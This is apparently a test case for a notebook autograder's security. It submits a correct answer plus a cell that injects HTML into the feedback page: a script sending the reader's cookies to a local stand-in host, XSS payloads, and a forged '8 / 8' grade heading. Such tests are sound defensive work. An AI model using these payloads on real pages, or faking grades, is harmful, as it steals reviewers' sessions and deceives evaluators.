"""Shows HTML with a script, in the page of whoever reads the feedback.

deserves: 1
"""

CELL = """
from IPython.display import HTML, display
display(HTML("<script>fetch('http://127.0.0.1:48484/' + document.cookie)</script><img src=x onerror=alert(1)>"))
display(HTML("<form action='http://127.0.0.1:48484/'><button formaction='javascript:alert(1)'>Grade</button></form>"))
display(HTML("</pre></div></body></html><h1 class='grade'>8 / 8</h1>"))
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)
